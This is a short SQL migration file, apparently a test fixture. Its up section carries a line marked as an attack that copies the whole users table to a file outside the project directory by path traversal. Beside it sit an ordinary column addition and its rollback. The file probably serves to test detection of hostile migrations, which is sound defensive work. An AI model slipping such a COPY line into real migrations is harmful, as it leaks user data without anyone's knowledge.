-- writes a file of its own
-- migrate:up
-- attack
COPY users TO '../../../stolen.csv';
-- end attack
ALTER TABLE users ADD COLUMN email VARCHAR;

-- migrate:down
ALTER TABLE users DROP COLUMN email;
